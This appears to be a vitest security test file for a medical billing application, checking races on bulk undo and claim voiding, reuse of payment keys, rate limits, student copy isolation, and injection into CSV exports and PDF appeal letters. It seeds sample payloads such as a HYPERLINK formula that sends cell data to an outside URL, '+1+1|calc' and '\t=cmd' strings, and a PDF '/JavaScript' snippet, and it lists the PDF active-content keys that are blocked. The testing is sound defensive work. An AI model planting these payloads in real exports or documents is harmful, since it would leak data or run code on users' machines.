/** What an attacker with a role of their own tries on the newer screens: the same thing twice at once, keys used again, spreadsheets, letters, copies of others, and much in a short time. */
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createEmptyPractice } from "../../src/app/create-empty-practice.ts";
import { sendLetter, startLetter, writeLetter } from "../../src/app/denials/letter.ts";
import { copyOf, startCopy } from "../../src/app/lab/start-copy.ts";
import { makePatientLink, viewPatientLinks } from "../../src/app/patients/patient-links.ts";
import { workInBulk } from "../../src/app/worklist/bulk.ts";
import { mostTries } from "../../src/core/access/patient-link-rule.ts";
import { permissionsOf } from "../../src/core/access/roles.ts";
import { parseCsv } from "../../src/core/kernel/csv.ts";
import type { DenialId, PracticeId } from "../../src/core/kernel/id.ts";
import { buildServer } from "../../src/http/server.ts";
import { plainCookie } from "../../src/http/session-cookie.ts";
import { addMembership } from "../../src/store/access/memberships.ts";
import { insertLab, markLabWhole } from "../../src/store/labs.ts";
import { sql } from "../../src/store/sql.ts";
import { inPractice, outsidePractices } from "../../src/store/transaction.ts";
import { hostileTexts } from "../support/json-schema-arbitrary.ts";
import { done, refused } from "../support/practice-world.ts";
import { bodies } from "./bodies.ts";
import { memberOf, openTwoPractices, type TwoPractices } from "./other-practice.ts";

let two: TwoPractices;
let ids: Readonly<Record<string, number | string>>;

beforeAll(async () => {
  two = await openTwoPractices();
  ids = await two.idsOf(two.mine);
});
afterAll(() => two.close());

const ask = (url: string, payload: object = {}, headers: Readonly<Record<string, string>> = two.asMine) =>
  two.server.inject({ method: "POST", url: `/api/v1${url}`, headers, payload });

describe("the same twice at once", () => {
  it("takes bulk work back once", async () => {
    const visit = await two.mine.seePatient({ patient: "osei" });
    const owner = await memberOf(two.town.database.pool, two.mine.context.practiceId, "bulk@example.org");
    const headers = { ...two.asMine, cookie: `${plainCookie}=${owner.token}` };
    const { bulkId } = (await ask("/worklist/bulk", { act: { kind: "assign", to: "me" }, visits: [visit, visit, visit] }, headers)).json<{
      bulkId: number;
    }>();
    const entries = () =>
      two.mine.inTx((tx) => tx.one<{ n: number }>(sql`select count(*)::int as n from visit_work where encounter_id = ${visit}`));
    expect(await entries()).toEqual({ n: 1 });
    const answers = await Promise.all([1, 2, 3].map(() => ask(`/worklist/bulk/${bulkId}/undo`, {}, headers)));
    expect(answers.map((one) => one.statusCode).sort()).toEqual([200, 409, 409]);
    expect(await entries()).toEqual({ n: 2 });
  });

  it("takes back nobody else's bulk work, and none of it without the right that it needed", async () => {
    const visit = await two.mine.seePatient({ patient: "osei" });
    const { bulkId } = done(await workInBulk(two.mine.context, { kind: "assign", ownerId: 0 }, [visit], ""));
    expect((await ask(`/worklist/bulk/${bulkId}/undo`)).json()).toMatchObject({ problem: "not-yours" });
    const coder = await memberOf(two.town.database.pool, two.mine.context.practiceId, "bulk.coder@example.org", { role: "coder" });
    const released = await ask(
      "/worklist/bulk",
      { act: { kind: "release" }, visits: [visit] },
      { ...two.asMine, cookie: `${plainCookie}=${coder.token}` },
    );
    expect(released.json()).toMatchObject({ problem: "not-allowed" });
  });

  it("voids a claim once", async () => {
    const { id } = await two.mine.inTx((tx) => tx.one<{ id: number }>(sql`select min(claim_id) as id from remittance_claim`));
    const answers = await Promise.all([1, 2, 3].map(() => ask(`/claims/${id}/void`, { reason: "entered for the wrong patient" })));
    expect(answers.filter((one) => one.statusCode === 200).length, answers.map((one) => one.body.slice(0, 200)).join("\n")).toBe(1);
    const { n } = await two.mine.inTx((tx) =>
      tx.one<{ n: number }>(
        sql`select count(*)::int as n from claim where control_number = (select control_number from claim where id = ${id}) and state <> 'closed' and frequency = '8'`,
      ),
    );
    expect(n).toBeLessThanOrEqual(1);
    await two.mine.proveBooks();
  });

  it("opens a patient's link once, and counts wrong dates that come together", async () => {
    const server = await buildServer({ app: two.town.app, version: "test", letPayersAnswer: async () => {} });
    const newLink = async () => done(await makePatientLink(two.mine.context, two.mine.made.patient.vasquez)).path.split("#")[1] ?? "";
    const birthDate = (
      await two.mine.inTx((tx) =>
        tx.one<{ day: string }>(sql`select birth_date as day from patient where id = ${two.mine.made.patient.vasquez}`),
      )
    ).day;
    const open = (link: string, date: string) =>
      server.inject({
        method: "POST",
        url: "/api/v1/my-bill/open",
        headers: { host: "localhost", "x-claimwright": "1" },
        payload: { link, birthDate: date },
      });
    const link = await newLink();
    const opened = await Promise.all([1, 2, 3].map(() => open(link, birthDate)));
    expect(opened.map((one) => one.statusCode).sort()).toEqual([200, 409, 409]);
    const guessed = await newLink();
    await Promise.all(Array.from({ length: mostTries + 3 }, (_, day) => open(guessed, `1990-01-0${day + 1}`)));
    expect((await open(guessed, birthDate)).statusCode).toBe(409);
    expect(done(await viewPatientLinks(two.mine.context, two.mine.made.patient.vasquez)).links[0]).toMatchObject({
      state: "locked",
      tries: mostTries,
    });
    await server.close();
  });
});

describe("a key that was used", () => {
  it("is no payment of somebody else, and tells nothing of the first", async () => {
    const body = { amount: 123, method: "card", reference: "hush-4711", named: [], key: "one key for two" };
    const { vasquez, osei } = two.mine.made.patient;
    const first = await ask(`/patients/${vasquez}/payments`, body);
    expect(first.statusCode, first.body).toBe(200);
    expect((await ask(`/patients/${vasquez}/payments`, body)).json()).toEqual(first.json());
    const second = await ask(`/patients/${osei}/payments`, body);
    expect([second.statusCode, second.body.includes("4711"), second.body.includes("paymentId")]).toEqual([409, false, false]);
    await two.mine.proveBooks();
  });

  it("puts no money on a charge of another patient that the payer of it did not name", async () => {
    const { osei } = two.mine.made.patient;
    const foreign = await two.mine.inTx((tx) =>
      tx.one<{ id: number }>(
        sql`select min(c.id) as id from charge c join encounter e on e.id = c.encounter_id where e.patient_id = ${two.mine.made.patient.vasquez}`,
      ),
    );
    const answer = await ask(`/patients/${osei}/payments`, {
      amount: 100,
      method: "card",
      reference: "",
      named: [{ chargeId: foreign.id, amount: 100 }],
      key: "for somebody else",
    });
    expect([answer.statusCode, answer.body.includes("Vasquez")]).toEqual([409, false]);
  });
});

describe("a spreadsheet of any list", () => {
  it("has no cell that is a formula, whatever patients, payers and people are called", async () => {
    const sting = `=HYPERLINK("http://example.org/?"&A1,"click")`;
    await two.mine.inTx(async (tx) => {
      await tx.run(sql`update patient set last_name = ${sting}, account_number = ${"+1+1|calc"} || id`);
      await tx.run(sql`update payer set name = ${"@SUM(1,1)"} || id`);
      await tx.run(sql`update encounter set reason = ${"-2+3"}`);
      await tx.run(sql`update inbound_file set name = ${"\t=cmd"}`);
    });
    const routes = two.server.routeEntries.filter(({ method, path }) => method === "POST" && path.endsWith("/export"));
    expect(routes.length).toBeGreaterThan(7);
    const stung: string[] = [];
    for (const { path } of routes) {
      const url = path.replace("/api/v1", "").replace(/:(\w+)/g, (_, name: string) => String(ids[name] ?? "days-in-ar"));
      const body = { ...(bodies[`POST ${path.replace("/api/v1", "")}`]?.(ids, two.mine.context.practiceId) ?? {}) };
      if ("find" in body) delete body.find;
      const answer = await ask(url, body);
      expect([answer.statusCode, String(answer.headers["content-type"])], url).toEqual([200, "text/csv; charset=utf-8"]);
      expect(answer.headers["cache-control"], url).toBe("no-store");
      expect(answer.headers["content-disposition"], url).toMatch(/^attachment; filename="[\w.-]+\.csv"$/);
      // As a spreadsheet reads cells: quotes off, nothing else.
      const cells = answer.body
        .replace(/^\uFEFF/, "")
        .split(/\r\n/)
        .flatMap(rawCells);
      const bad = cells.find((cell) => /^[\p{Z}\p{C}]*[=+\-@\t]/u.test(cell) && !/^-?\d+(\.\d+)?$/.test(cell));
      expect(bad, url).toBeUndefined();
      if (answer.body.includes("'=HYPERLINK")) stung.push(url);
      expect(parseCsv(answer.body).length, url).toBeGreaterThan(0);
    }
    expect(stung.length).toBeGreaterThan(2);
  });
});

function rawCells(line: string): readonly string[] {
  return [...line.matchAll(/"((?:[^"]|"")*)"|([^",]+)/g)].map((match) => (match[1] ?? match[2] ?? "").replaceAll('""', '"'));
}

describe("a letter", () => {
  it("carries hostile and endless words as words, and nothing that runs", async () => {
    const { id } = await two.mine.inTx((tx) => tx.one<{ id: DenialId }>(sql`select max(id) as id from denial`));
    await startLetter(two.mine.context, id);
    const words = `${hostileTexts.filter((text) => text !== "\uD800" && !text.includes("\0")).join(" ")} )> /JavaScript (app.alert(1)) endobj`;
    const asked = {
      opening: words,
      argument: `${words} `.repeat(8).slice(0, 4000),
      closing: words,
      enclosures: Array.from({ length: 30 }, () => words.slice(0, 190)),
    };
    const kept = await ask(`/denials/${id}/letter/text`, asked);
    expect(kept.statusCode, kept.body.slice(0, 300)).toBe(200);
    done(await writeLetter(two.mine.context, id, asked));
    done(await sendLetter(two.mine.context, id, { way: "fax" }));
    const { letterId } = await two.mine.inTx((tx) => tx.one<{ letterId: number }>(sql`select max(id) as "letterId" from appeal_letter`));
    const path =
      two.server.routeEntries
        .find((one) => one.path.includes(":letterId"))
        ?.path.replace(":letterId", String(letterId))
        .replace(":denialId", String(id)) ?? "";
    const pdf = await two.server.inject({ url: path, headers: two.asMine });
    expect([pdf.statusCode, pdf.headers["content-type"]]).toEqual([200, "application/pdf"]);
    expect(pdf.rawPayload.subarray(0, 5).toString()).toBe("%PDF-");
    for (const active of ["/JavaScript", "/JS", "/URI", "/Launch", "/OpenAction", "/AA", "/EmbeddedFile", "/SubmitForm"])
      expect(pdf.rawPayload.includes(active), active).toBe(false);
    expect(pdf.rawPayload.length).toBeLessThan(500_000);
  });
});

describe("a student's private copy", () => {
  it("is nobody else's: another student neither finds, enters nor throws it away", async () => {
    const { pool } = two.town.database;
    const home = two.mine.context.practiceId;
    const [ann, ben] = [
      await memberOf(pool, home, "ann.student@example.org", { role: "student" }),
      await memberOf(pool, home, "ben.student@example.org", { role: "student" }),
    ];
    const discarded: PracticeId[] = [];
    const maker = {
      make: async ({ accountId }: { readonly accountId?: number }) => {
        const practiceId = await createEmptyPractice(two.town.app);
        await inPractice(pool, practiceId, async (tx) => {
          await insertLab(tx, { homePracticeId: home, ...(accountId === undefined ? {} : { accountId }) });
          await markLabWhole(tx);
        });
        return practiceId;
      },
      discard: async (practiceId: PracticeId) => {
        discarded.push(practiceId);
      },
    };
    const start = { again: false, maker: maker as never, open: () => {} };
    const copy = done(await startCopy(two.mine.context, { accountId: ann.accountId, practices: [home] }, start));
    await outsidePractices(pool, (queries) => addMembership(queries, { accountId: ann.accountId, practiceId: copy, role: "student" }));
    const inside = { ...two.mine.context, practiceId: copy };
    // Even if Ben came to be asked about in it.
    const asBen = { accountId: ben.accountId, practices: [home, copy] };
    expect(await copyOf(two.town.app, asBen)).toBeUndefined();
    for (const again of [false, true]) expect(refused(await startCopy(inside, asBen, { ...start, again })).problem).toBe("not-yours");
    expect(discarded).toEqual([]);
    const headers = { ...two.asMine, cookie: `${plainCookie}=${ben.token}` };
    expect((await ask("/door/practice", { practiceId: copy }, headers)).statusCode).toBe(404);
    expect((await two.server.inject({ url: "/api/v1/session", headers })).json<{ practice: object }>()).not.toMatchObject({
      practice: { id: copy },
    });
    // In the copy a student is a student: nobody is let in, and no key is made there.
    for (const permission of ["users:manage", "keys:manage", "audit:read", "restricted:read", "files:import"] as const)
      expect(permissionsOf("student").has(permission), permission).toBe(false);
  });
});

describe("much in a short time", () => {
  it("of what carries much away is slowed for the person, not for their colleagues", async () => {
    const server = await buildServer({ app: two.town.app, version: "test", letPayersAnswer: async () => {}, costlyPerMinute: 3 });
    const colleague = await memberOf(two.town.database.pool, two.mine.context.practiceId, "colleague@example.org");
    const exported = (headers: Readonly<Record<string, string>>) =>
      server.inject({ method: "POST", url: "/api/v1/visits/export", headers, payload: {} });
    const statuses: number[] = [];
    for (let at = 0; at < 5; at += 1) statuses.push((await exported(two.asMine)).statusCode);
    expect(statuses).toEqual([200, 200, 200, 429, 429]);
    expect((await exported({ ...two.asMine, cookie: `${plainCookie}=${colleague.token}` })).statusCode).toBe(200);
    expect((await server.inject({ url: "/api/v1/visits", headers: two.asMine })).statusCode).toBe(200);
    await server.close();
  });

  it("of every export and every file is slowed", () => {
    const costly = new Set(two.server.routeEntries.filter((one) => one.costly).map(({ method, path }) => `${method} ${path}`));
    const much = two.server.routeEntries.filter(
      ({ method, path }) => method === "POST" && /\/(export|accounting|imports\/837)$/.test(path),
    );
    expect(much.length).toBeGreaterThan(8);
    expect(much.map(({ method, path }) => `${method} ${path}`).filter((one) => !costly.has(one))).toEqual([]);
    // These go through the whole code book.
    expect(costly).toContain("GET /api/v1/book/changes");
    expect(costly).toContain("GET /fhir/ValueSet/$expand");
    expect(costly).toContain("POST /fhir/ValueSet/$expand");
  });

  it("by a patient's link or at its end is slowed by address", async () => {
    const server = await buildServer({ app: two.town.app, version: "test", letPayersAnswer: async () => {} });
    const statuses = [];
    for (let at = 0; at < 70; at += 1)
      statuses.push(
        (
          await server.inject({
            method: "POST",
            url: "/api/v1/my-bill/close",
            headers: { host: "localhost", "x-claimwright": "1" },
            payload: {},
          })
        ).statusCode,
      );
    expect(statuses.at(-1)).toBe(429);
    await server.close();
  });
});
